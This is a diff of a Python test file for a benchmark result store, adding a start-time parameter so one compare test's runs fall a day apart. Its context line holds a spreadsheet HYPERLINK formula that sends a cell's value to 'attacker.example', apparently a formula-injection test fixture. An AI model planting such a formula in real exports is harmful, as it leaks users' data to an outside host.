@@ -20,7 +20,8 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
 
 
 def result_events(campaign: str, host: list[float], pod: list[float], *, node: str = "node-1",
-                  tool_version: str = "1.0.20", run_prefix: str | None = None) -> list[events.Envelope]:
+                  tool_version: str = "1.0.20", run_prefix: str | None = None,
+                  t0: datetime = T0) -> list[events.Envelope]:
     """Results as a store may hold them: names on the bus are checked since Dec 3 (events.NodeName), but a
     store written before holds what it got, and its reports and exports must not break on it, so the runs
     are built unchecked (model_construct)."""
@@ -29,7 +30,7 @@ def result_events(campaign: str, host: list[float], pod: list[float], *, node: s
         run = events.RunSpec.model_construct(run_id=f"{run_prefix or campaign}-{i}", campaign=campaign, node=node,
                                              env=env, test="sysbench-cpu", params={"threads": 1}, cluster="local",
                                              attempt=1, timeout_s=600, sequence=0)
-        start = T0 + timedelta(minutes=2 * i)
+        start = t0 + timedelta(minutes=2 * i)
         res = events.Result(run=run, tool="sysbench", tool_version=tool_version, parser_version="1",
                             metrics=[events.Metric(name="events_per_second", value=value, unit="events/s",
                                                    higher_is_better=True)],
@@ -76,7 +77,8 @@ def test_compare_when_a_base_ratio_is_zero_is_inconclusive_not_a_500(store):
     # a metric whose candidate median is 0 (most pod runs 0): the ratio is 0, NEW/BASE has no value
     host = [1.0, 1.1, 0.9, 1.0, 1.2, 1.05]
     pod = [0.0, 0.0, 0.0, 1.0, 0.0, 0.0]
-    store.write_batch(result_events("base", host, pod) + result_events("new", host, pod))
+    # a day apart: runs of both at the same time on one node would overlap (OVERLAP withholds the ratio)
+    store.write_batch(result_events("base", host, pod) + result_events("new", host, pod, t0=T0 + timedelta(days=1)))
     client = TestClient(create_app(store), raise_server_exceptions=False)
     resp = client.get("/api/compare", params={"base": "base", "new": "new"})
     assert resp.status_code == 200, resp.text
